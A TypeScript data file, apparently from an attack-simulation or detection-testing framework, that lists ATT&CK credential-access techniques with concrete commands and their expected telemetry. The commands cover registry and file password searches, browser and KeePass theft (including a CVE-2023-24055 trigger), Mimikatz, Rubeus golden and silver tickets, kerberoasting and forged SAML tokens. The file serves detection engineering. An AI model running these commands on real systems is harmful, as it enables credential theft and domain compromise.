import { t, v } from "../dsl";

/** Credential access, continued: stores, Kerberos, certificates, adversary-in-the-middle. */
export const credentialAccess2 = [
  t("T1552", "Unsecured credentials", "Searching files and the registry for passwords.", [
    v("findstr", [
      "findstr /si password *.xml *.ini *.txt *.config",
      "reg query HKLM /f password /t REG_SZ /s",
    ]),
  ]),
  t(
    "T1552.001",
    "Credentials in files",
    "findstr/Select-String over shares and profiles, unattend.xml and web.config.",
    [
      v("findstr", [
        "findstr /S /I cpassword \\\\{{dns}}\\sysvol\\{{dns}}\\policies\\*.xml",
        "findstr /si password C:\\Users\\*.txt C:\\inetpub\\*.config",
      ]),
      v(
        "select-string",
        [
          {
            ps: "Get-ChildItem -Path C:\\ -Include *.txt,*.xml,*.config,*.ps1 -Recurse -ErrorAction SilentlyContinue | Select-String -Pattern 'password' | Out-File $env:TEMP\\pw.txt",
            files: ["{{tmp}}\\pw.txt"],
          },
        ],
        { shell: "ps" },
      ),
      v("unattend", [
        "cmd.exe /c type C:\\Windows\\Panther\\Unattend.xml",
        "cmd.exe /c type C:\\Windows\\system32\\sysprep\\sysprep.xml",
      ]),
      v("lazagne", ["{{tools}}\\lazagne.exe all -oN -output {{tmp}}"]),
    ],
  ),
  t(
    "T1552.002",
    "Credentials in registry",
    "reg query for autologon and stored passwords (Winlogon DefaultPassword, PuTTY, VNC).",
    [
      v("reg-query-password", [
        "reg query HKLM /f password /t REG_SZ /s",
        "reg query HKCU /f password /t REG_SZ /s",
      ]),
      v("winlogon", [
        'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\Currentversion\\Winlogon" /v DefaultPassword',
        'reg query "HKCU\\Software\\SimonTatham\\PuTTY\\Sessions" /s',
      ]),
      v("vnc", [
        'reg query "HKLM\\SOFTWARE\\RealVNC\\WinVNC4" /v password',
        'reg query "HKCU\\Software\\ORL\\WinVNC3\\Password"',
      ]),
    ],
  ),
  t(
    "T1552.003",
    "Shell history",
    "PSReadLine history files and PowerShell script-block logs read for typed secrets.",
    [
      // Every profile's PSReadLine history swept from cmd (what the Sigma rule on ConsoleHost_history.txt sees).
      v("psreadline-all-users", [
        {
          cmd: 'cmd.exe /c for /d %u in (C:\\Users\\*) do @type "%u\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt" 2>nul | findstr /i "pass secret -Credential ConvertTo-SecureString"',
          as: "c",
        },
        // cmd runs each side of a pipe in its own /S /D /c child.
        {
          cmd: 'C:\\Windows\\system32\\cmd.exe  /S /D /c" for /d %u in (C:\\Users\\*) do @type "%u\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt" 2>nul "',
          parent: "c",
          reads: [
            "{{home}}\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt",
          ],
        },
        {
          cmd: 'C:\\Windows\\system32\\cmd.exe  /S /D /c" findstr /i "pass secret -Credential ConvertTo-SecureString""',
          parent: "c",
          as: "right",
        },
        { cmd: 'findstr  /i "pass secret -Credential ConvertTo-SecureString"', parent: "right" },
      ]),
      v(
        "get-content-history",
        [
          {
            ps: "Get-History; Get-Content (Get-PSReadlineOption).HistorySavePath | Select-String -Pattern 'password','-AsPlainText','net use'",
            reads: ["{{appdata}}\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt"],
          },
        ],
        { shell: "ps" },
      ),
      // Script-block logging keeps what admins typed: 4104 events mined for credentials (Seatbelt-style).
      v("scriptblock-log", [
        'wevtutil qe Microsoft-Windows-PowerShell/Operational /q:"*[System[EventID=4104]]" /f:text /rd:true /c:2000 > {{tmp}}\\sb.txt',
        'findstr /i "password ConvertTo-SecureString PSCredential" {{tmp}}\\sb.txt',
      ]),
    ],
  ),
  t("T1552.004", "Private keys", "Certificates with private keys exported or key files collected.", [
    v("certutil-exportpfx", ["certutil -exportPFX -p Passw0rd! My {{rand2}} {{tmp}}\\cert.pfx"]),
    v("dir-keys", ["cmd.exe /c dir /s /b C:\\*.pfx C:\\*.p12 C:\\*.pem C:\\*id_rsa*"]),
    v(
      "export-pfxcertificate",
      [
        {
          ps: "Get-ChildItem Cert:\\CurrentUser\\My | Export-PfxCertificate -FilePath $env:TEMP\\c.pfx -Password (ConvertTo-SecureString -String 'x' -Force -AsPlainText)",
          files: ["{{tmp}}\\c.pfx"],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t(
    "T1552.006",
    "Group Policy Preferences",
    "cpassword in SYSVOL Groups.xml found with findstr or Get-GPPPassword.",
    [
      v("findstr-sysvol", ["findstr /S /I cpassword \\\\{{dns}}\\sysvol\\{{dns}}\\policies\\*.xml"]),
      v("get-gpppassword", [{ ps: "Get-GPPPassword -Server {{dc}}", net: [["@dc", 445]] }], { shell: "ps" }),
    ],
  ),
  t("T1555", "Password stores", "Stored passwords listed with cmdkey and vaultcmd.", [
    v("cmdkey", ["cmdkey /list", 'vaultcmd /listcreds:"Windows Credentials" /all']),
    v("lazagne", ["{{tools}}\\LaZagne.exe all"]),
  ]),
  t(
    "T1555.003",
    "Credentials from web browsers",
    "Browser Login Data copied and decrypted (Chrome/Edge), or HackBrowserData/LaZagne.",
    [
      v("copy-login-data", [
        {
          cmd: 'cmd.exe /c copy "{{local}}\\Google\\Chrome\\User Data\\Default\\Login Data" {{tmp}}\\ld.db',
          reads: ["{{local}}\\Google\\Chrome\\User Data\\Default\\Login Data"],
          files: ["{{tmp}}\\ld.db"],
        },
      ]),
      v("lazagne-browsers", ["{{tools}}\\LaZagne.exe browsers"]),
      v("hackbrowserdata", [
        {
          cmd: "{{tools}}\\hack-browser-data.exe -b all -f json --dir results --zip",
          reads: ["{{local}}\\Microsoft\\Edge\\User Data\\Default\\Login Data"],
        },
      ]),
    ],
  ),
  t(
    "T1555.004",
    "Windows Credential Manager",
    "Vault credentials listed with vaultcmd/cmdkey and dumped with PowerShell or Mimikatz.",
    [
      v("vaultcmd", ['vaultcmd /listcreds:"Windows Credentials" /all', "cmdkey /list"]),
      v(
        "get-credmancreds",
        [
          {
            ps: "[void][Windows.Security.Credentials.PasswordVault,Windows.Security.Credentials,ContentType=WindowsRuntime]; (New-Object Windows.Security.Credentials.PasswordVault).RetrieveAll() | % { $_.RetrievePassword(); $_ }",
          },
        ],
        { shell: "ps" },
      ),
      v("mimikatz-vault", ['{{tools}}\\mimikatz.exe "vault::cred /patch" exit']),
    ],
  ),
  t(
    "T1555.005",
    "Password managers",
    "KeePass databases found and copied, the config given an export trigger, or the master key pulled from memory (KeeThief).",
    [
      v("keepass-copy", [
        "cmd.exe /c dir /s /b C:\\Users\\*.kdbx",
        {
          cmd: 'cmd.exe /c copy "{{home}}\\Documents\\Database.kdbx" {{tmp}}\\db.kdbx',
          reads: ["{{home}}\\Documents\\Database.kdbx"],
          files: ["{{tmp}}\\db.kdbx"],
        },
      ]),
      // CVE-2023-24055: an export-on-open trigger written into KeePass.config.xml; KeePass itself later dumps the
      // database in clear text when the user unlocks it.
      v(
        "keepass-trigger",
        [
          {
            ps: "$p = \"$env:APPDATA\\KeePass\\KeePass.config.xml\"; $x = [xml](Get-Content $p); $t = $x.CreateElement('Trigger'); $t.InnerXml = '<Guid>{{rand2}}</Guid><Name>Sync</Name><Events><Event><TypeGuid>5f8TBoW4QYm5BvaeKztApw==</TypeGuid></Event></Events><Actions><Action><TypeGuid>D5prW87VRr65NO2xP5RIIg==</TypeGuid><Parameters><Parameter>{{tmp}}\\kp.xml</Parameter><Parameter>KeePass XML (2.x)</Parameter></Parameters></Action></Actions>'; $x.Configuration.Application.TriggerSystem.Triggers.AppendChild($t); $x.Save($p)",
            then: [{ id: "save", kind: "file.modify", path: "{{appdata}}\\KeePass\\KeePass.config.xml" }],
          },
          {
            cmd: '"C:\\Program Files\\KeePass Password Safe 2\\KeePass.exe"',
            parent: "@explorer",
            delay: 60000,
            reads: ["{{home}}\\Documents\\Database.kdbx"],
            files: ["{{tmp}}\\kp.xml"],
          },
        ],
        { shell: "ps" },
      ),
      // KeeThief injects into the running KeePass and reads the DPAPI-protected master key material back.
      v(
        "keethief",
        [
          {
            cmd: '"C:\\Program Files\\KeePass Password Safe 2\\KeePass.exe"',
            parent: "@explorer",
            as: "kp",
            keep: true,
          },
          {
            ps: "Import-Module .\\KeeThief.ps1; Get-Process KeePass | Get-KeePassDatabaseKey -Verbose",
            access: ["kp", "0x1fffff"],
            thread: "kp",
          },
        ],
        { shell: "ps" },
      ),
    ],
  ),
  t("T1558", "Kerberos ticket theft/forgery", "Tickets dumped and requested with Rubeus.", [
    v("rubeus-dump", [{ cmd: "{{tools}}\\Rubeus.exe dump /nowrap", access: ["@lsass", "0x1010"] }], {
      elevated: true,
    }),
    v("klist", ["klist", "klist tgt"]),
  ]),
  t(
    "T1558.001",
    "Golden ticket",
    "A TGT forged with the krbtgt hash (Mimikatz kerberos::golden, Rubeus golden).",
    [
      v("mimikatz-golden", [
        '{{tools}}\\mimikatz.exe "kerberos::golden /user:{{admin}} /domain:{{dns}} /sid:S-1-5-21-{{n}} /krbtgt:{{rand2}}{{rand2}}{{rand2}}{{rand2}} /ptt" exit',
        {
          cmd: "klist",
          then: [
            {
              id: "tgs",
              kind: "kerberos.tgs",
              host: "@dc",
              user: "@admin",
              service: "@server",
              source: "@workstation",
              encryption: "0x17",
            },
          ],
        },
      ]),
      v("rubeus-golden", [
        "{{tools}}\\Rubeus.exe golden /rc4:{{rand2}}{{rand2}}{{rand2}}{{rand2}} /user:{{admin}} /domain:{{dns}} /sid:S-1-5-21-{{n}} /ptt",
      ]),
    ],
  ),
  t("T1558.002", "Silver ticket", "A service ticket forged with a machine or service account hash.", [
    v("mimikatz-silver", [
      '{{tools}}\\mimikatz.exe "kerberos::golden /user:{{admin}} /domain:{{dns}} /sid:S-1-5-21-{{n}} /target:{{srvfqdn}} /service:cifs /rc4:{{rand2}}{{rand2}}{{rand2}}{{rand2}} /ptt" exit',
    ]),
    v("rubeus-silver", [
      "{{tools}}\\Rubeus.exe silver /service:cifs/{{srvfqdn}} /rc4:{{rand2}}{{rand2}}{{rand2}}{{rand2}} /user:{{admin}} /domain:{{dns}} /sid:S-1-5-21-{{n}} /ptt",
    ]),
  ]),
  t(
    "T1558.003",
    "Kerberoasting",
    "Service tickets with RC4 requested for SPN accounts (Rubeus, Invoke-Kerberoast, setspn).",
    [
      v("rubeus-kerberoast", [
        {
          cmd: "{{tools}}\\Rubeus.exe kerberoast /outfile:hashes.txt /nowrap",
          net: [
            ["@dc", 88],
            ["@dc", 389],
          ],
          then: [
            {
              id: "tgs1",
              kind: "kerberos.tgs",
              host: "@dc",
              user: "@user",
              service: "MSSQLSvc/{{srvfqdn}}:1433",
              source: "@workstation",
              encryption: "0x17",
            },
            {
              id: "tgs2",
              kind: "kerberos.tgs",
              host: "@dc",
              user: "@user",
              service: "HTTP/{{srvfqdn}}",
              source: "@workstation",
              encryption: "0x17",
            },
          ],
        },
      ]),
      v(
        "invoke-kerberoast",
        [
          {
            ps: "Invoke-Kerberoast -OutputFormat Hashcat | fl",
            net: [["@dc", 389]],
            then: [
              {
                id: "tgs",
                kind: "kerberos.tgs",
                host: "@dc",
                user: "@user",
                service: "MSSQLSvc/{{srvfqdn}}:1433",
                source: "@workstation",
                encryption: "0x17",
              },
            ],
          },
        ],
        { shell: "ps" },
      ),
      v(
        "setspn",
        [
          "setspn -T {{dns}} -Q */*",
          {
            ps: "Add-Type -AssemblyName System.IdentityModel; New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList 'MSSQLSvc/{{srvfqdn}}:1433'",
            by: "sh",
            then: [
              {
                id: "tgs",
                kind: "kerberos.tgs",
                host: "@dc",
                user: "@user",
                service: "MSSQLSvc/{{srvfqdn}}:1433",
                source: "@workstation",
                encryption: "0x17",
              },
            ],
          },
        ],
        { shell: "ps" },
      ),
    ],
  ),
  t(
    "T1558.004",
    "AS-REP roasting",
    "AS-REPs requested for accounts without pre-authentication (Rubeus asreproast).",
    [
      v("rubeus-asreproast", [
        {
          cmd: "{{tools}}\\Rubeus.exe asreproast /format:hashcat /outfile:asrep.txt",
          net: [["@dc", 88]],
          then: [
            {
              id: "tgt",
              kind: "kerberos.tgt",
              host: "@dc",
              user: "@user",
              source: "@workstation",
              encryption: "0x17",
              preAuthType: "0",
            },
          ],
        },
      ]),
      v(
        "powerview",
        [{ ps: "Get-DomainUser -PreauthNotRequired | Select samaccountname", net: [["@dc", 389]] }],
        { shell: "ps" },
      ),
    ],
  ),
  t("T1606", "Forge web credentials", "Tokens or cookies forged from stolen signing material.", [
    v(
      "aadinternals",
      [
        {
          ps: "Import-Module AADInternals; New-AADIntSAMLToken -ImmutableID {{rand2}} -PfxFileName .\\adfs_signing.pfx -Issuer http://sts.{{dns}}/adfs/services/trust",
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1606.001", "Web cookies", "Session cookies minted offline and injected in a browser profile.", [
    v("cookie-inject", [
      {
        cmd: "{{tools}}\\cookie-editor.exe import {{tmp}}\\cookies.json",
        files: ["{{local}}\\Google\\Chrome\\User Data\\Default\\Network\\Cookies"],
      },
    ]),
  ]),
];
